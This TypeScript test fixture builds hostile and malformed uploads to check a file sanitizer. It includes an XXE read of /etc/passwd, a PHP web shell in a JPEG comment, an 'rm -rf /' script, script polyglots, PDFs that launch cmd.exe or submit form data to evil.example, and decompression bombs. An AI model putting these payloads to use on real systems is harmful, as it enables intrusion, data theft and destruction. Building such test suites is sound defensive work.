import { deflateRawSync, deflateSync, gzipSync } from 'node:zlib'
import type { FileFault } from '../checking/checked-content.ts'
import { objectsAs, packedNothing, packedObjects, samplePdf } from './sample-pdfs.ts'
import { exifOf, joined, jpegSegment, PNG_START, pngChunk, pngHead, sampleJpeg, samplePng } from './sample-pictures.ts'

type Bytes = Uint8Array<ArrayBuffer>

/** A file that means harm, or is broken: why it is refused, or `harmless` where what is kept of it does none. */
type HostileFile = readonly [what: string, content: Bytes, ends: FileFault | 'harmless']

/** What must be in nothing that is kept. */
export const HARM = ['<script', 'alert(', '<?php', 'PK\u0003\u0004', 'GPSLatitude', 'Lagos', 'Zainab', 'acTL'] as const

const SCRIPT = '<script>alert(1)</script>'
const ZIP = 'PK\u0003\u0004\u0014\u0000\u0000\u0000\u0000\u0000[Content_Types].xml'
const ACTION = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>'

/** The start of a stream by Deflate that holds a word as it is. */
const STORED_END = Buffer.concat([Buffer.from([0x78, 0x9c, 0, 9, 0, 0xf6, 0xff]), Buffer.from('endstream')])
/** A stream of sixty megabytes in sixty kilobytes. */
const SIXTY_MEGABYTES = packedNothing(60_000_000)

const ofOtherKinds: readonly HostileFile[] = [
  ['nothing', joined(), 'file_empty'],
  ['an SVG with a script', joined(`<svg xmlns="http://www.w3.org/2000/svg">${SCRIPT}</svg>`), 'file_type'],
  ['an SVG after a byte order mark', joined(`\xef\xbb\xbf<?xml version="1.0"?><svg onload="alert(1)"/>`), 'file_type'],
  ['a page', joined(`<!doctype html><html>${SCRIPT}</html>`), 'file_type'],
  ['a page after spaces', joined(`\n\n   <html>${SCRIPT}`), 'file_type'],
  [
    'XML that reads the server',
    joined('<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'),
    'file_type',
  ],
  ['an archive', joined(ZIP), 'file_type'],
  ['a program for Windows', joined('MZ\x90\0\x03', Buffer.alloc(200)), 'file_type'],
  ['a program for Linux', joined('\x7fELF\x02\x01\x01', Buffer.alloc(200)), 'file_type'],
  ['a shell script', joined('#!/bin/sh\nrm -rf /\n'), 'file_type'],
  ['a GIF that is a script', joined('GIF89a/*', Buffer.alloc(50), `*/=1;alert(1)`), 'file_type'],
  ['a WebP', joined('RIFF\x24\0\0\0WEBPVP8 ', Buffer.alloc(30)), 'file_type'],
  ['a bitmap', joined('BM', Buffer.alloc(60)), 'file_type'],
  ['a TIFF', joined('II*\0', Buffer.alloc(60)), 'file_type'],
  ['an old Word file', joined('\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1', Buffer.alloc(60)), 'file_type'],
  ['rich text', joined('{\\rtf1{\\object\\objdata 0105}}'), 'file_type'],
  ['a PDF in an archive', joined(gzipSync(samplePdf())), 'file_type'],
  ['a film', joined('\0\0\0\x18ftypmp42', Buffer.alloc(60)), 'file_type'],
  ['an AVIF', joined('\0\0\0\x18ftypavif', Buffer.alloc(60)), 'file_type'],
  ['a photo of an iPhone', joined('\0\0\0\x18ftypheic', Buffer.alloc(60)), 'file_heic'],
  ['another of these', joined('\0\0\0\x18ftypmif1', Buffer.alloc(60)), 'file_heic'],
]

const pngs: readonly HostileFile[] = [
  ['only the start of a PNG', PNG_START, 'file_damaged'],
  ['a PNG that is cut off', samplePng().subarray(0, -8), 'file_damaged'],
  ['a PNG that was changed', samplePng().map((byte, at) => (at === 20 ? byte ^ 1 : byte)), 'file_damaged'],
  ['a PNG of no points', samplePng({ width: 0 }), 'file_damaged'],
  ['a PNG with two heads', samplePng({ before: [pngHead(9, 9)] }), 'file_damaged'],
  ['a PNG of nothing but ends', joined(PNG_START, pngChunk('IEND', '')), 'file_damaged'],
  ['a PNG whose points are noise', samplePng({ points: Buffer.from('not packed at all') }), 'file_damaged'],
  [
    'a PNG of four thousand million points',
    joined(
      PNG_START,
      pngHead(65_000, 65_000),
      pngChunk('IDAT', deflateSync(Buffer.alloc(1_000))),
      pngChunk('IEND', ''),
    ),
    'file_too_many_pixels',
  ],
  [
    'a PNG of a line that never ends',
    joined(PNG_START, pngHead(2_147_483_647, 1), pngChunk('IDAT', deflateSync(Buffer.alloc(9))), pngChunk('IEND', '')),
    'file_too_many_pixels',
  ],
  [
    'a PNG whose points unpack to forty megabytes',
    samplePng({ points: deflateSync(Buffer.alloc(40_000_000)) }),
    'harmless',
  ],
  [
    'a PNG with a text that unpacks to forty megabytes',
    samplePng({ before: [pngChunk('zTXt', joined('Comment\0\0', deflateSync(Buffer.alloc(40_000_000, 'Zainab'))))] }),
    'harmless',
  ],
  ['a PNG with a script in its texts', samplePng({ before: [pngChunk('tEXt', `Comment\0${SCRIPT}`)] }), 'harmless'],
  [
    'a PNG that says where it was taken',
    samplePng({ before: [pngChunk('eXIf', 'MM\0*GPSLatitude Lagos')] }),
    'harmless',
  ],
  ['a PNG that is also a page', joined(samplePng(), `<html>${SCRIPT}</html>`), 'harmless'],
  ['a PNG that is also an archive', joined(samplePng(), ZIP), 'harmless'],
  ['a PNG that moves', samplePng({ before: [pngChunk('acTL', Buffer.from([0, 0, 0, 2, 0, 0, 0, 0]))] }), 'harmless'],
]

const pdfs: readonly HostileFile[] = [
  ['only the start of a PDF', joined('%PDF-1.7\n'), 'file_damaged'],
  ['a PDF that is cut off', samplePdf({ pages: 3 }).subarray(0, 300), 'file_damaged'],
  ['a PDF without pages', samplePdf({ pages: 0 }), 'file_damaged'],
  ['a PDF of too many pages', samplePdf({ pages: 201 }), 'file_pdf_pages'],
  ['a PDF behind a page', joined(`<html>${SCRIPT}</html>\n`, samplePdf()), 'file_type'],
  ['a PDF that is also an archive', joined(samplePdf(), ZIP), 'file_damaged'],
  ['a PDF of a version that is none', joined('%PDF-9.9\n', samplePdf().subarray(9)), 'file_damaged'],
  ['a PDF whose table is elsewhere', joined(samplePdf().subarray(0, -20), 'startxref\n7\n%%EOF\n'), 'file_damaged'],
  ['a PDF with a password', samplePdf({ trailer: '/Encrypt 9 0 R' }), 'file_pdf_locked'],
  ['a PDF that hides its password', samplePdf({ trailer: '/#45ncrypt 9 0 R' }), 'file_pdf_locked'],
  ['a PDF that runs a script when it is opened', samplePdf({ catalogue: `/OpenAction ${ACTION}` }), 'file_pdf_active'],
  [
    'a PDF that spells its script oddly',
    samplePdf({ catalogue: '/AA << /O << /S /J#61v#61Script >> >>' }),
    'file_pdf_active',
  ],
  [
    'a PDF with a script among packed objects',
    samplePdf({ objects: [packedObjects(`9 0 ${ACTION}`)] }),
    'file_pdf_active',
  ],
  [
    'a PDF with a script in a stream of no name',
    samplePdf({ objects: [packedObjects(`9 0 ${ACTION}`, { facts: '/Filter /Fl' })] }),
    'file_pdf_active',
  ],
  [
    'a PDF with objects packed as nobody does',
    samplePdf({ objects: [packedObjects('9 0 <<>>', { facts: '/Filter /LZWDecode' })] }),
    'file_pdf_active',
  ],
  [
    'a PDF with a script in a stream whose checksum is wrong',
    samplePdf({ objects: [packedObjects(`9 0 ${ACTION}`, { end: 4, after: 'oops' })] }),
    'file_pdf_active',
  ],
  [
    'a PDF with a script in a stream without an end',
    samplePdf({ objects: [packedObjects(`9 0 ${ACTION}`, { end: 4 })] }),
    'file_pdf_active',
  ],
  [
    'a PDF with a script after a word that looks like the end of its stream',
    samplePdf({ objects: [objectsAs(Buffer.concat([STORED_END, deflateRawSync(joined(`9 0 ${ACTION}`))]))] }),
    'file_pdf_active',
  ],
  [
    'a PDF with a script in a stream that begins on another line',
    samplePdf({ objects: [packedObjects(`9 0 ${ACTION}`, { word: 'stream \r' })] }),
    'file_pdf_active',
  ],
  ...['/Filter /ASCIIHexDecode', '/Filter [/AHx]', '/Filter 1 0 R'].map((facts): HostileFile => [
    `a PDF with a script in digits, said as ${facts}`,
    samplePdf({ objects: [objectsAs(joined(Buffer.from(`9 0 ${ACTION}`).toString('hex'), '>'), facts)] }),
    'file_pdf_active',
  ]),
  [
    'a PDF with a script in digits, and a text that cuts off how it is packed',
    samplePdf({
      objects: [objectsAs(joined(Buffer.from(`9 0 ${ACTION}`).toString('hex')), '/Filter /AHx /X (endobj)')],
    }),
    'file_pdf_active',
  ],
  [
    'a PDF with objects packed by a short name of what nobody does',
    samplePdf({ objects: [packedObjects('9 0 <<>>', { facts: '/Filter /LZW' })] }),
    'file_pdf_active',
  ],
  [
    'a PDF with packed objects that do not say so',
    samplePdf({ objects: ['<< /N 1 /First 4 /Filter /RunLengthDecode >>\nstream\nxx\nendstream'] }),
    'file_pdf_active',
  ],
  [
    'a PDF of a hundred thousand streams, each in the one before',
    samplePdf({ objects: ['stream\n'.repeat(100_000)] }),
    'file_damaged',
  ],
  [
    'a PDF of a hundred thousand streams of nothing',
    samplePdf({ objects: ['stream\nx\x9c\0\0\0\xff\xff'.repeat(100_000)] }),
    'file_damaged',
  ],
  [
    'a PDF with a file that says not what it is',
    samplePdf({ objects: ['<< /Type /Filespec /F (a.exe) /EF << /F 9 0 R >> >>'] }),
    'file_pdf_active',
  ],
  [
    'a PDF that starts a program',
    samplePdf({ catalogue: '/OpenAction << /S /Launch /F (cmd.exe) >>' }),
    'file_pdf_active',
  ],
  [
    'a PDF with a file in it',
    samplePdf({ objects: ['<< /Type /EmbeddedFile /Length 0 >>\nstream\n\nendstream'] }),
    'file_pdf_active',
  ],
  ['a PDF with a form of scripts', samplePdf({ catalogue: '/AcroForm << /XFA [] >>' }), 'file_pdf_active'],
  [
    'a PDF that sends what is typed',
    samplePdf({ objects: ['<< /S /SubmitForm /F (https://evil.example) >>'] }),
    'file_pdf_active',
  ],
  ['a PDF with a film', samplePdf({ objects: ['<< /Subtype /RichMedia >>'] }), 'file_pdf_active'],
  [
    'a PDF that opens another',
    samplePdf({ catalogue: '/OpenAction << /S /GoToR /F (\\\\\\\\evil\\\\x) >>' }),
    'file_pdf_active',
  ],
  ['a PDF with a stream of seventy megabytes', samplePdf({ objects: [packedNothing(70_000_000)] }), 'file_damaged'],
  [
    'a PDF of many streams that unpack to as much',
    samplePdf({ objects: Array.from({ length: 5 }, () => SIXTY_MEGABYTES) }),
    'file_damaged',
  ],
]

/** Size and place of a frame in a JPEG's second byte of height. */
function withSize(jpeg: Bytes, pixels: number): Bytes {
  const file = Buffer.from(jpeg)
  const frame = file.findIndex((byte, at) => byte === 0xff && (file[at + 1] === 0xc0 || file[at + 1] === 0xc2))
  file.writeUInt16BE(pixels, frame + 5)
  file.writeUInt16BE(pixels, frame + 7)
  return new Uint8Array(file)
}

async function jpegs(): Promise<readonly HostileFile[]> {
  const plain = await sampleJpeg()
  const scan = plain.subarray(
    plain.findIndex((byte, at) => byte === 0xff && plain[at + 1] === 0xda),
    -2,
  )
  return [
    ['only the start of a JPEG', joined('\xff\xd8\xff'), 'file_damaged'],
    ['a JPEG that is cut off', plain.subarray(0, -40), 'file_damaged'],
    ['a JPEG of four thousand million points', withSize(plain, 65_000), 'file_too_many_pixels'],
    ['a JPEG with a segment beyond its end', joined('\xff\xd8\xff\xe0\xff\xff', Buffer.alloc(20)), 'file_damaged'],
    [
      'a JPEG of a thousand scans',
      joined(plain.subarray(0, -2), ...Array.from({ length: 1_000 }, () => scan), '\xff\xd9'),
      'file_damaged',
    ],
    ['a PDF with the start of a JPEG', joined('\xff\xd8\xff\xfe', samplePdf()), 'file_damaged'],
    ['a JPEG that says where it was taken', await sampleJpeg([exifOf(1)]), 'harmless'],
    [
      'a JPEG with a program in its comment',
      await sampleJpeg([jpegSegment(0xfe, '<?php system($_GET[0]); ?>')]),
      'harmless',
    ],
    [
      'a JPEG with a script in its profile',
      await sampleJpeg([jpegSegment(0xe2, `ICC_PROFILE\0\x01\x01${SCRIPT}`)]),
      'harmless',
    ],
    [
      'a JPEG that names its owner',
      await sampleJpeg([jpegSegment(0xe1, 'http://ns.adobe.com/xap/1.0/\0Zainab')]),
      'harmless',
    ],
    ['a JPEG that is also an archive', joined(plain, ZIP), 'harmless'],
    ['a JPEG that is also a page', joined(plain, `<html>${SCRIPT}</html>`), 'harmless'],
  ]
}

/** Every one of them, made anew: none was copied from anywhere. */
export async function hostileFiles(): Promise<readonly HostileFile[]> {
  return [...ofOtherKinds, ...pngs, ...(await jpegs()), ...pdfs]
}
